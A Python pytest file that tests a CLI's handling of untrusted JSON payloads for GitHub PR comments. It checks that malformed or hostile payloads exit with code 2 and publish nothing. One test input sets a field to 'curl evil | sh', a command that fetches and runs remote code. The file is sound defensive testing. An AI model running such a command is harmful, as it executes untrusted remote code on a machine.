"""`rodeo post --payload F`: a payload is untrusted data. Anything off → exit 2 and nothing published."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests import fakegithub
from tests.fakegithub import FakeGitHub
from tests.ghscenario import TOKEN, Rodeo

fake_github = fakegithub.fake_github
MARKER = "<!-- rodeo:comment id=demo -->"


def good(fake: FakeGitHub, pr: int) -> dict[str, Any]:
    return {"schema": 1, "kind": "rodeo-publish", "repository": fake.repo_name, "pr": pr, "rodeo": "demo",
            "body": f"{MARKER}\n## 🤠 rodeo demo\n", "digest": "", "reason": "fork"}


def post(tmp: Path, fake: FakeGitHub, data: Any, **kw: Any) -> Any:
    path = tmp / "rodeo-publish.json"
    path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
    return Rodeo(tmp, fake).cli("post", "--payload", str(path), **kw)


def test_a_good_payload_is_published_once(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr()
    for _ in range(2):
        run = post(tmp_path, fake_github, good(fake_github, n))
        assert run.code == 0, run.err
    (c,) = fake_github.comments(n)
    assert c.body == good(fake_github, n)["body"] and TOKEN not in run.text


@pytest.mark.parametrize("case", ["wrong repo", "not open", "no such pr", "an issue", "no marker", "marker later",
                                  "oversized", "not json", "extra key", "bool pr", "digest not in body",
                                  "nan", "duplicate key", "other commit"])
def test_hostile_payloads_exit_2_and_publish_nothing(tmp_path: Path, fake_github: FakeGitHub, case: str) -> None:
    n = fake_github.open_pr()
    issue = fake_github.add_issue("just an issue")
    data: Any = good(fake_github, n)
    kw: dict[str, Any] = {}
    if case == "wrong repo":
        data["repository"] = "someone/else"
    elif case == "not open":
        fake_github.issue(n).state = "closed"
    elif case == "no such pr":
        data["pr"] = 999
    elif case == "an issue":
        data["pr"] = issue
    elif case == "no marker":
        data["body"] = "@everyone click here"
    elif case == "marker later":
        data["body"] = "hello " + MARKER
    elif case == "oversized":
        data["body"] = MARKER + "x" * 600_000
    elif case == "not json":
        data = b"{{ not json"
    elif case == "extra key":
        data["run"] = "curl evil | sh"
    elif case == "bool pr":
        data["pr"] = True
    elif case == "digest not in body":
        data["digest"] = "[rodeo-digest-demo]: data:application/gzip;base64,AAAA"
    elif case == "nan":
        data = json.dumps(data).replace('"pr": 1', '"pr": NaN').encode()
    elif case == "duplicate key":
        data = json.dumps(data).replace('"pr": 1,', '"pr": 1, "pr": 2,').encode()
    elif case == "other commit":
        kw = {"event": "workflow_run", "payload": {"workflow_run": {"head_sha": "0" * 40}}}
    run = post(tmp_path, fake_github, data, **kw)
    assert run.code == 2, (case, run.err)
    assert all(r.method == "GET" for r in fake_github.requests), case
    assert fake_github.comments(n) == [] and fake_github.comments(issue) == []
    assert TOKEN not in run.text


def test_a_5xx_that_keeps_failing_exits_3(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr()
    fake_github.fail("POST", r"/comments$", 502, times=10)
    run = post(tmp_path, fake_github, good(fake_github, n))
    assert run.code == 3 and f"FAILED: comment on #{n}: HTTP 502" in run.err
    assert fake_github.comments(n) == []
